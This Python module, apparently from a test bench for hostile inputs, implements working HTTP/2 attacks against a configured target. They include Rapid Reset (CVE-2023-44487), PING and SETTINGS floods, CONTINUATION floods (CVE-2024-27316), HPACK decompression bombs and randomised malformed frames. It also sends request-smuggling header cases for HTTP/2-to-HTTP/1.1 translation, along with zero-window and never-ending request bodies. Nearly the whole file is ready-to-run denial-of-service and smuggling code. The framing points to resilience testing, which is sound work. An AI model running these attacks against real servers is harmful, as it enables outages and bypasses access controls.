"""Attacks over HTTP/2: floods of frames that cost nothing to send, header sections that grow when
they are read, frames that are damaged, and requests that HTTP/1.1 would read differently."""

from __future__ import annotations

import asyncio
import json
import random
from collections.abc import Awaitable, Callable
from typing import Final

from bench.hostile.http.sending import ANSWER_S, Ration, crowd, key_of
from bench.hostile.http.wire2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    field,
    frame,
    http2,
    integer,
    pseudo,
    section,
)
from bench.hostile.target import Findings, Target

_STREAMS: Final = 50
"""Requests of one connection."""
_FLOOD_FRAMES: Final = 20_000
"""Of one connection, unless the edge ends it before."""
_BURST_FRAMES: Final = 500
_CONNECTIONS: Final = 4
_NO_ERROR: Final = bytes(4)
_INCREMENT: Final = (1).to_bytes(4, "big")


async def rapid_resets(target: Target, ration: Ration, findings: Findings) -> None:
    """Requests of chats that a key allows, each reset in the packet that begins it
    (CVE-2023-44487)."""
    key = (b"authorization", b"Bearer " + key_of(target).encode())
    kind = (b"content-type", b"application/json")
    chat = {"messages": [{"role": "user", "content": "Go on for ever."}], "max_tokens": 400}
    body = json.dumps(chat).encode()

    async def use(connection: Http2, numbers: list[int]) -> None:
        for number in numbers:
            head = section(*pseudo(b"POST", b"/v1/chat/completions"), key, kind)
            stream_id = connection.stream()
            begun = frame(HEADERS, END_HEADERS, stream_id, head)
            if number % 2:
                begun += frame(DATA, END_STREAM, stream_id, body)
            await connection.send(begun + frame(RST_STREAM, 0, stream_id, _NO_ERROR))
        await _still_answers(connection)

    await _on_connections(target, ration, findings, 200, use)


async def ping_floods(target: Target, ration: Ration, findings: Findings) -> None:
    """Twenty thousand PINGs on each connection, which all ask for an answer."""
    await _flood(target, ration, findings, lambda _: frame(PING, 0, 0, bytes(8)))


async def settings_floods(target: Target, ration: Ration, findings: Findings) -> None:
    """Twenty thousand SETTINGS on each connection, which change the window of all streams and ask
    for an acknowledgement."""

    def change(number: int) -> bytes:
        return frame(SETTINGS, 0, 0, b"\x00\x04" + (1000 + number).to_bytes(4, "big"))

    await _flood(target, ration, findings, change)


async def small_frames(target: Target, ration: Ration, findings: Findings) -> None:
    """Twenty thousand frames with next to nothing on each connection: empty DATA, PRIORITY,
    WINDOW_UPDATE, unknown types."""
    kinds = (
        frame(DATA, 0, 1), frame(PRIORITY, 0, 1, bytes(4) + b"\x10"),
        frame(WINDOW_UPDATE, 0, 0, _INCREMENT), frame(0x7F, 0, 0, b"x"),
        frame(PRIORITY, 0, 99_999, bytes(4) + b"\x10"),
    )  # fmt: skip
    await _flood(target, ration, findings, lambda number: kinds[number % len(kinds)])


async def continuation_floods(target: Target, ration: Ration, findings: Findings) -> None:
    """Header sections that go on for ever: thousands of CONTINUATION frames, empty ones and large
    ones (CVE-2024-27316)."""

    async def use(connection: Http2, numbers: list[int]) -> None:
        piece = field(b"x", b"y" * 200) * 20 if numbers[0] % 2 else b""
        begun = frame(HEADERS, END_STREAM, connection.stream(), section(*pseudo()))
        await connection.send(begun)
        for _ in range(40):
            if connection.is_ended:
                break
            await connection.send(frame(CONTINUATION, 0, 1, piece) * 50)
        await connection.until(lambda: False, 0.2)

    await _on_connections(target, ration, findings, 1, use)


async def hpack_bombs(target: Target, ration: Ration, findings: Findings) -> None:
    """Header sections of a few bytes that stand for megabytes: a long field in the dynamic table,
    named thousands of times; and tables resized, indices and integers beyond what there is."""
    big = field(b"x", b"y" * 3900, indexed=True)
    cases = (
        big + b"\xbe" * 16_000,
        big + b"\xbe" * 500,
        b"\x3f\xff\xff\xff\xff\x0f" + section(*pseudo()),
        b"\x20" * 5000 + section(*pseudo()),
        b"\xff" + b"\x80" * 5000 + b"\x01",
        integer(1 << 40, 7, 0x80),
        b"\x00" + integer(1 << 30, 7) + b"x",
        b"\x00\x81\xff\x81\xff",
        b"\x40\x8f" + b"\xff" * 15 + b"\x8f" + b"\x00" * 15,
        section(*pseudo()) + b"".join(field(b"x%d" % n, b"y", indexed=True) for n in range(900)),
    )

    async def use(connection: Http2, numbers: list[int]) -> None:
        case = cases[numbers[0] % len(cases)]
        payloads = [case[at : at + 16_000] for at in range(0, len(case), 16_000)]
        stream_id, last = connection.stream(), len(payloads) - 1
        for at, payload in enumerate(payloads):
            kind = CONTINUATION if at else HEADERS
            flags = (0 if at else END_STREAM) | (END_HEADERS if at == last else 0)
            await connection.send(frame(kind, flags, stream_id, payload))
        await connection.until(lambda: bool(connection.statuses), 0.2)

    await _on_connections(target, ration, findings, 1, use)


async def damaged_frames(target: Target, ration: Ration, findings: Findings) -> None:
    """Frames of wrong sizes, on wrong streams, in a wrong order, with random bytes; one for
    each connection, which some of them end."""
    chance = random.Random(20)

    def kinds(stream_id: int) -> tuple[bytes, ...]:
        head = section(*pseudo())
        return (
            frame(chance.randrange(16), chance.randrange(256), stream_id, chance.randbytes(30)),
            frame(HEADERS, END_HEADERS, stream_id, chance.randbytes(60)),
            frame(DATA, 0, 0, b"x"),
            frame(DATA, 0, stream_id + 100, b"x"),
            frame(DATA, 0x8, stream_id, b"\xff"),
            frame(HEADERS, END_HEADERS, 0, head),
            frame(HEADERS, END_HEADERS, 2, head),
            frame(HEADERS, END_HEADERS | 0x8, stream_id, b"\xff" + head),
            frame(HEADERS, END_HEADERS | 0x20, stream_id, b"\x01"),
            frame(HEADERS, 0, stream_id, head) + frame(PING, 0, 0, bytes(8)),
            frame(CONTINUATION, END_HEADERS, stream_id, head),
            frame(SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff"),
            frame(SETTINGS, 0, 0, b"\x00\x05\x00\x00\x00\x00"),
            frame(SETTINGS, 0, 1),
            frame(SETTINGS, 0, 0, b"xxx"),
            frame(SETTINGS, 1, 0, b"x" * 6),
            frame(PING, 0, 0, b"x"),
            frame(PING, 0, 1, bytes(8)),
            frame(WINDOW_UPDATE, 0, 0, bytes(4)),
            frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2,
            frame(PUSH_PROMISE, END_HEADERS, stream_id, (2).to_bytes(4, "big") + head),
            frame(RST_STREAM, 0, 0, _NO_ERROR),
            frame(RST_STREAM, 0, stream_id + 50, _NO_ERROR),
            frame(PRIORITY, 0, stream_id, stream_id.to_bytes(4, "big") + b"\x10"),
            frame(GOAWAY, 0, 0, b"x"),
            b"\xff\xff\xff" + bytes((DATA, 0)) + stream_id.to_bytes(4, "big") + b"x" * 100,
            b"GET / HTTP/1.1\r\n\r\n",
            chance.randbytes(200),
        )

    async def send(number: int) -> None:
        try:
            async with http2(target, findings) as connection:
                cases = kinds(connection.stream())
                await connection.send(cases[number % len(cases)])
                await connection.until(lambda: bool(connection.statuses), 0.2)
        except OSError:
            findings.count("connections refused")

    await crowd(ration, send, 16)


async def ambiguous_fields(target: Target, ration: Ration, findings: Findings) -> None:
    """Requests that become two where HTTP/2 is translated to HTTP/1.1: line ends, lengths and
    codings in fields, names in upper case, pseudo header fields twice, late or missing."""
    get, post = pseudo(), pseudo(b"POST", b"/tokenize")
    body = b"GET /hidden HTTP/1.1\r\n\r\n"
    cases: tuple[tuple[tuple[tuple[bytes, bytes], ...], bytes], ...] = (
        ((*get, (b"x", b"y\r\nHost: other")), b""),
        ((*get, (b"x\r\ny", b"z")), b""),
        ((*get, (b"x", b"y\x00z")), b""),
        ((*get, (b"X", b"y")), b""),
        ((*get, (b"", b"y")), b""),
        ((*get, (b"x", b" y ")), b""),
        ((*post, (b"transfer-encoding", b"chunked")), b"0\r\n\r\n" + body),
        ((*post, (b"connection", b"transfer-encoding")), body),
        ((*post, (b"content-length", b"0")), body),
        ((*post, (b"content-length", b"5"), (b"content-length", b"6")), body),
        ((*post, (b"content-length", b"+5")), body),
        ((*post, (b"content-length", b"9" * 30)), body),
        ((*get, (b":path", b"/other")), b""),
        (((b"x", b"y"), *get), b""),
        (get[:3], b""),
        (pseudo(path=b""), b""),
        (pseudo(path=b"hidden"), b""),
        (pseudo(path=b"/a b HTTP/1.1\r\nx: y"), b""),
        (pseudo(path=b"/\xff\x00"), b""),
        (pseudo(path=b"*"), b""),
        (pseudo(b"GET / HTTP/1.1\r\nx:"), b""),
        (pseudo(b""), b""),
        (pseudo(b"CONNECT"), b""),
        (((b":method", b"CONNECT"), (b":authority", b"edge:1")), b""),
        ((*pseudo(b"CONNECT"), (b":protocol", b"websocket")), b""),
        ((*get, (b":status", b"200")), b""),
        ((*get, (b"host", b"other")), b""),
        ((*get, (b"te", b"gzip")), b""),
        ((*get, (b"upgrade", b"h2c")), b""),
        ((*get, (b"expect", b"100-continue")), b""),
        (((b":method", b"GET"), (b":scheme", b"x\r\ny"), *get[2:]), b""),
        ((*get, *(((b"cookie", b"z"),) * 300)), b""),
        ((*get, (b"x", b"y" * 15_000)), b""),
    )  # fmt: skip

    async def use(connection: Http2, numbers: list[int]) -> None:
        fields, data = cases[numbers[0] % len(cases)]
        stream_id = connection.stream()
        flags = END_HEADERS | (0 if data else END_STREAM)
        begun = frame(HEADERS, flags, stream_id, section(*fields))
        await connection.send(begun + (frame(DATA, END_STREAM, stream_id, data) if data else b""))
        await connection.until(lambda: bool(connection.statuses or connection.num_reset), 0.5)

    await _on_connections(target, ration, findings, 1, use)


async def closed_windows(target: Target, ration: Ration, findings: Findings) -> None:
    """Requests whose answers nobody lets through: streams with a window of nothing."""

    async def use(connection: Http2, numbers: list[int]) -> None:
        for _ in numbers:
            await connection.send(connection.request(path=b"/openapi.json"))
        await connection.until(lambda: False, 1.0)

    await _on_connections(target, ration, findings, 25, use, window=0)


async def slow_streams(target: Target, ration: Ration, findings: Findings) -> None:
    """Bodies that begin and never end, fifty on each connection."""
    key = (b"authorization", b"Bearer " + key_of(target).encode())
    fields = (key, (b"content-type", b"application/json"), (b"content-length", b"1000"))

    async def use(connection: Http2, numbers: list[int]) -> None:
        head = section(*pseudo(b"POST", b"/v1/chat/completions"), *fields)
        for _ in numbers:
            stream_id = connection.stream()
            begun = frame(HEADERS, END_HEADERS, stream_id, head)
            await connection.send(begun + frame(DATA, 0, stream_id, b"{"))
        await connection.until(lambda: len(connection.statuses) >= len(numbers), 6.0)

    await _on_connections(target, ration, findings, _STREAMS, use)


async def _still_answers(connection: Http2) -> None:
    before = len(connection.statuses)
    await connection.send(connection.request())
    await connection.until(lambda: len(connection.statuses) > before, ANSWER_S)


async def _flood(
    target: Target, ration: Ration, findings: Findings, made: Callable[[int], bytes]
) -> None:
    """A request, and a flood of frames beside it, on ten connections at a time."""

    async def send(_: int) -> None:
        try:
            async with http2(target, findings) as connection:
                await connection.send(connection.request(end=False))
                for at in range(0, _FLOOD_FRAMES, _BURST_FRAMES):
                    if connection.is_ended:
                        break
                    await connection.send(b"".join(map(made, range(at, at + _BURST_FRAMES))))
                    findings.count("frames", _BURST_FRAMES)
        except OSError:
            findings.count("connections refused or cut")

    await crowd(ration, send, 10)


async def _on_connections(
    target: Target,
    ration: Ration,
    findings: Findings,
    num_each: int,
    use: Callable[[Http2, list[int]], Awaitable[None]],
    *,
    window: int = 1 << 24,
) -> None:
    """Call `use` with one connection after the other, and the numbers of the requests to be sent on
    it; four at a time."""

    async def go_on() -> None:
        while numbers := ration.take_up_to(num_each):
            try:
                async with http2(target, findings, window=window) as connection:
                    await use(connection, numbers)
            except OSError:
                findings.count("connections refused or cut")

    async with asyncio.TaskGroup() as group:
        for _ in range(_CONNECTIONS):
            group.create_task(go_on())
